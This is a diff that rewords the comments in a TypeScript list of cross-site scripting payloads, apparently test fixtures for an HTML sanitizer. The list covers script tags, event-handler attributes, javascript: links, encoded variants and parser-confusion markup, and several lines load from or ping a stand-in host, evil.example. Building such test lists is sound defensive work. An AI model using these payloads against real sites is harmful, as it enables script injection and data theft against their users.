@@ -1,6 +1,6 @@
-/** Fifty ways in which markup has been made to run a script, by what they try. */
+/** Fifty pieces of markup that run a script in some browser, grouped by method. */
 export const PAYLOADS: string[] = [
-  // Elements that run by themselves.
+  // Elements that run without an action of the user.
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
   "<script/x>alert(1)</script/x>",
@@ -31,13 +31,13 @@ export const PAYLOADS: string[] = [
   "<video><source onerror=alert(1)></video>",
   "<style>@import '//evil.example/x.css';</style>",
   "<template><script>alert(1)</script></template>",
-  // Attributes of elements that may stay.
+  // Attributes of allowed elements.
   "<b onclick=alert(1)>x</b>",
   "<b/onmouseover=alert(1)>x</b>",
   "<b style='background:url(javascript:alert(1))'>x</b>",
   '<a href="https://ok.example" onclick="alert(1)">x</a>',
   "<a href='https://ok.example' target=_blank ping=//evil.example>x</a>",
-  // Links that are no links.
+  // Links that are not http, https or mailto URLs.
   "<a href=javascript:alert(1)>x</a>",
   "<a href='JaVaScRiPt:alert(1)'>x</a>",
   "<a href='&#106;avascript&colon;alert(1)'>x</a>",
@@ -51,7 +51,7 @@ export const PAYLOADS: string[] = [
   `<a href="https://ok.example/'onclick=alert(1) x='">x</a>`,
   `<a href="https://ok.example/&#39;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</a>`,
   "<a href=https://ok.example/`onclick=alert(1)>x</a>",
-  // Parsers that disagree about where something ends.
+  // Elements that parsers end at different places.
   "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
   "<!--><img src=x onerror=alert(1)>--><![CDATA[><script>alert(1)</script>]]>",
   "<textarea></textarea/><img src=x onerror=alert(1)></textarea><xmp></xmp ><script>alert(1)</script>",
